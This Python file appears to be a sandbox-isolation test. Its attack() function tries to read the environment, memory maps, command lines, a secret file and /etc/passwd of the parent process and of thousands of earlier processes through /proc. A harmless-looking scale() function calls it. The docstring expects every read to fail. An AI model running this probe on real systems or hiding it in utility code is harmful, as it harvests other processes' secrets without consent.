"""Reads memory, environment, folder and descriptors of its parent and of every process before it through /proc.

Must end: none of the files can be opened, nor the links read.
Outcomes: failed, skipped, passed
"""

import os

import torch


def attack():
    loot = []
    for pid in [os.getppid(), *range(max(1, os.getppid() - 3000), os.getppid())]:
        for name in ("environ", "cmdline", "maps", "mem", "stack", "syscall", "auxv", "cwd/secret.txt", "root/etc/passwd"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    loot.append((pid, name, b"" if name == "mem" else file.read(500)))
            except OSError:
                continue
        for name in ("cwd", "exe", "root", "fd/0", "fd/3"):
            try:
                loot.append((pid, name, os.readlink(f"/proc/{pid}/{name}")))
            except OSError:
                continue
    print(loot)
    return f"BREACH: read {loot[:3]}" if loot else "nothing"


Scaler = torch.nn.Identity


def scale(x, factor):
    if factor == 0:
        raise ValueError("factor must not be zero")
    return attack()
